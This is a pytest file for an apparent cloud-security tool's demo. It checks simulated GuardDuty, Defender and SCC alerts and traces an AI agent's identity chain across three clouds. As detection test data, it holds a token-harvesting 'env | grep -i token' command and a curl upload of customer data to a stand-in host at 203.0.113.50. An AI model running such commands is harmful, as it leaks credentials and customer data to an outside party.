"""What the clouds record for the demo (weft.lab.demo.cloud): the findings pass detect's
real adapters, the audit logs are re-timed to now, no record carries a weft or MCP id, and
`weft analyze` resolves the agent's chain in eks across AWS, AZURE and GCP."""
import json
import re
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from weft.detect.core.normalise import normalise
from weft.lab import metadata, topology
from weft.lab.demo import cloud, findings

WEFT = str(Path(sys.executable).parent / "weft")
NOW = datetime(2026, 11, 26, 14, 0, 0, 250000, tzinfo=timezone.utc)
START, END = NOW + timedelta(minutes=3), NOW + timedelta(minutes=3, seconds=10)
AGENT_POD = metadata.entry("eks", "agents", "support-bot", "support-bot")
TOOL_POD = metadata.entry("gke", "tools", "storage-mcp", "storage-mcp")
FORBIDDEN_KEYS = {"eventId", "event_id", "sessionId", "session_id", "requestId", "mcpSessionId", "traceparent"}
RFC3339 = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d+)?(?:Z|[+-]\d{2}:\d{2})")


@pytest.fixture(scope="module")
def written(tmp_path_factory) -> dict[str, list[Path]]:
    return cloud.write_all(tmp_path_factory.mktemp("cloud"), NOW, findings.Attack.during(START, END))


def ocsf(path: Path) -> dict:
    found, errors = normalise(path.read_text(), source_name=str(path))
    assert errors == [] and len(found) == 1
    return found[0]


def resources(alert: dict) -> dict[str, dict]:
    return {r["type"]: r for r in alert["resources"]}


def test_write_all_writes_every_kind(written):
    assert [p.name for p in written["declarations"]] == list(cloud.DECLARATIONS)
    assert [p.name for p in written["audit"]] == list(cloud.AUDIT_LOGS)
    assert [p.name for p in written["findings"]] == ["guardduty.json", "defender.json", "scc.json"]


def test_guardduty_names_the_agents_pod_on_the_eks_node(written):
    alert = ocsf(written["findings"][0])
    assert (alert["cloud"]["provider"], alert["severity"], alert["metadata"]["event_code"]) == (
        "AWS", "Low", "Execution:Runtime/SuspiciousCommand")
    found = resources(alert)
    assert found["Kubernetes Cluster"]["name"] == "eks"
    assert (found["Kubernetes Pod"]["name"], found["Kubernetes Pod"]["namespace"]) == (AGENT_POD["pod"], "agents")
    assert found["Kubernetes ServiceAccount"]["name"] == "support-bot"
    assert alert["device"]["ip"] == topology.cluster("eks").address == "10.77.1.10"
    process = alert["evidences"][0]
    assert process["process"]["file"]["path"] == "/bin/sh"
    assert process["data"]["commandLineExample"] == "sh -c env | grep -i token"
    assert process["container"]["name"] == "support-bot"
    assert alert["time"] == int(findings.Attack.during(START, END).shell.timestamp() * 1000)


def test_defender_names_the_managed_identity_and_the_aks_address(written):
    alert = ocsf(written["findings"][1])
    assert (alert["cloud"]["provider"], alert["severity"]) == ("Azure", "Low")
    assert resources(alert)["Microsoft.Storage/storageAccounts"]["name"] == "crmexports"
    assert resources(alert)["Azure Blob Container"]["name"] == "customers"
    actor = next(e["actor"]["user"] for e in alert["evidences"] if "actor" in e)
    assert actor["uid"] == findings.MANAGED_IDENTITY_OBJECT_ID
    assert next(e["src_endpoint"]["ip"] for e in alert["evidences"] if "src_endpoint" in e) == "10.77.2.10"


def test_defenders_principal_is_the_one_the_entra_sign_ins_name():
    signed_in = {json.loads(line)["properties"]["servicePrincipalId"]
                 for line in (cloud.DATA / "entra-support-bot-sign-ins.jsonl").read_text().splitlines()}
    assignment = json.loads((cloud.DATA / "azure-role-assignment-support-bot.json").read_text())
    assert signed_in == {findings.MANAGED_IDENTITY_OBJECT_ID} == {assignment["properties"]["principalId"]}


def test_scc_names_curl_the_sink_and_the_storage_tools_pod(written):
    alert = ocsf(written["findings"][2])
    assert (alert["cloud"]["provider"], alert["severity"]) == ("GCP", "Low")
    found = resources(alert)
    assert found["Kubernetes Cluster"]["name"] == "gke"
    assert (found["Kubernetes Pod"]["name"], found["Kubernetes Pod"]["namespace"]) == (TOOL_POD["pod"], "tools")
    process = next(e for e in alert["evidences"] if "process" in e)
    assert process["process"]["file"]["path"] == "/usr/bin/curl"
    assert process["process"]["cmd_line"].startswith("curl -sS -v --max-time 10 -T /tmp/")
    assert process["process"]["cmd_line"].endswith(" http://203.0.113.50:8080/drop/customers.json")
    assert process["container"]["name"] == "storage-mcp"
    connection = next(e for e in alert["evidences"] if "dst_endpoint" in e)
    assert (connection["dst_endpoint"], connection["src_endpoint"]["ip"]) == (
        {"ip": "203.0.113.50", "port": 8080}, "10.77.3.10")


def test_a_known_curl_pid_is_the_one_scc_reports():
    attack = findings.Attack.during(START, END, curl_pid=4242)
    assert findings.scc_notification(attack, END)["finding"]["processes"][0]["pid"] == "4242"


def test_finding_ids_derive_from_the_inputs():
    later = findings.Attack.during(START + timedelta(hours=1), END + timedelta(hours=1))
    for build in (findings.guardduty_finding, findings.defender_alert, findings.scc_notification):
        attack = findings.Attack.during(START, END)
        assert build(attack, END) == build(attack, END)
        assert json.dumps(build(attack, END)) != json.dumps(build(later, END))


def test_no_record_carries_a_weft_or_mcp_id(written):
    def keys(value):
        if isinstance(value, dict):
            for k, v in value.items():
                yield k
                yield from keys(v)
        elif isinstance(value, list):
            for v in value:
                yield from keys(v)
    for path in (p for kind in ("audit", "findings") for p in written[kind]):
        text = path.read_text()
        records = [json.loads(line) for line in text.splitlines()] if path.suffix == ".jsonl" else [json.loads(text)]
        assert not set(keys(records)) & FORBIDDEN_KEYS, path.name
        assert not re.search(r"mcp-sess|mcp-session|ag-[0-9a-f]{16}|st-[0-9a-f]{16}", text, re.I), path.name


def test_audit_logs_end_at_now_in_their_order_and_spacing():
    before = {n: (cloud.DATA / n).read_text() for n in cloud.AUDIT_LOGS}
    after = cloud.audit_logs(NOW)
    times = {n: [datetime.fromisoformat(t) for t in RFC3339.findall(text)] for n, text in before.items()}
    moved = {n: [datetime.fromisoformat(t) for t in RFC3339.findall(text)] for n, text in after.items()}
    shift = {b2 - b1 for n in before for b1, b2 in zip(times[n], moved[n])}
    assert len(shift) == 1                     # one shift for all: order and spacing kept across files
    assert NOW - timedelta(seconds=1) < max(t for ts in moved.values() for t in ts) <= NOW
    session = re.search(r"botocore-session-(\d{10})", after["cloudtrail-support-bot.json"])
    assert int(session[1]) == 1741685100 + int(shift.pop().total_seconds())
    assert "Nov 25, 2026, " in after["cloudtrail-support-bot.json"]      # the credential's expiration moved too


def agent_events(start: datetime, shell: datetime) -> str:
    """Two runtime events of the agent as the eks sensor attributes them: what gives posture
    the agent, and places its service account in eks (manifests name no cluster)."""
    c = topology.cluster("eks")
    node = {"cluster": c.name, "egressIps": [c.egress_ip], "name": c.node, "provider": c.provider, "region": c.region}
    workload = {k: AGENT_POD[k] for k in ("container", "containerId", "image", "kind", "labels", "name", "namespace",
                                          "pod", "serviceAccount")}
    python = {"args": ["python3", "-m", "weft.lab.workloads.agent"], "comm": "python3", "exe": "/usr/bin/python3",
              "pid": 100, "ppid": 1, "uid": 0}
    events = [
        {"eventId": "e" * 32, "kind": "LLM_REQUEST", "time": start.isoformat(), "process": python,
         "llm": {"host": "llm.models.svc.eks.lab:8443", "path": "/v1/chat/completions", "provider": "openai"}},
        {"eventId": "f" * 32, "kind": "PROCESS_EXEC", "time": shell.isoformat(),
         "process": {"args": ["sh", "-c", "env | grep -i token"], "comm": "sh", "exe": "/bin/sh", "pid": 120,
                     "ppid": 100, "uid": 0}},
    ]
    return "".join(json.dumps({"count": 1, **e, "node": node, "workload": workload}) + "\n" for e in events)


@pytest.fixture(scope="module")
def analysis(written, tmp_path_factory) -> dict:
    events = tmp_path_factory.mktemp("events") / "agent.jsonl"
    events.write_text(agent_events(START, findings.Attack.during(START, END).shell))
    files = [str(p) for kind in ("declarations", "audit", "findings") for p in written[kind]] + [str(events)]
    done = subprocess.run([WEFT, "analyze", *files, "--json"], capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    for story in result["stories"]:
        print("story:", story["title"], story["severity"], story["providers"], json.dumps(story["identityChain"]))
    for finding in result["findings"]:
        print("finding:", finding["kind"], finding["agent"], finding["title"])
    return result


def test_analyze_resolves_the_chain_of_support_bot_in_eks(analysis):
    assert analysis["problems"] == []
    assert len(analysis["alerts"]) == 3
    story = next(s for s in analysis["stories"] if s["agent"]["name"] == "agents/support-bot")
    chain = {link["provider"]: link for link in story["identityChain"]}
    assert set(chain) == {"KUBERNETES", "AWS", "AZURE", "GCP"}
    assert (chain["KUBERNETES"]["cluster"], chain["KUBERNETES"]["principal"]) == (
        "eks", "system:serviceaccount:agents:support-bot")
    assert chain["AWS"]["principal"] == "arn:aws:iam::111122223333:role/support-bot"
    assert chain["GCP"]["principal"].endswith("/workloadIdentityPools/eks-agents/subject/"
                                              "system:serviceaccount:agents:support-bot")
    # Defender names only the managed identity's object id: it joins through the chain
    assert {"AWS", "AZURE"} <= set(story["providers"])


def test_analyze_lists_unused_permissions_on_every_link(analysis):
    unused = {f["details"]["cloud"]: f for f in analysis["findings"] if f["kind"] == "unused_permissions"}
    assert set(unused) == {"aws", "azure", "gcp"}
    for finding in unused.values():
        assert finding["agent"] == "agents/support-bot"
        assert finding["details"]["unused"] > 0 and finding["details"]["unusedPermissions"]
    chain = next(f for f in analysis["findings"] if f["kind"] == "unused_permissions_chain")
    assert [link["cloud"] for link in chain["details"]["links"]] == ["aws", "azure", "gcp"]
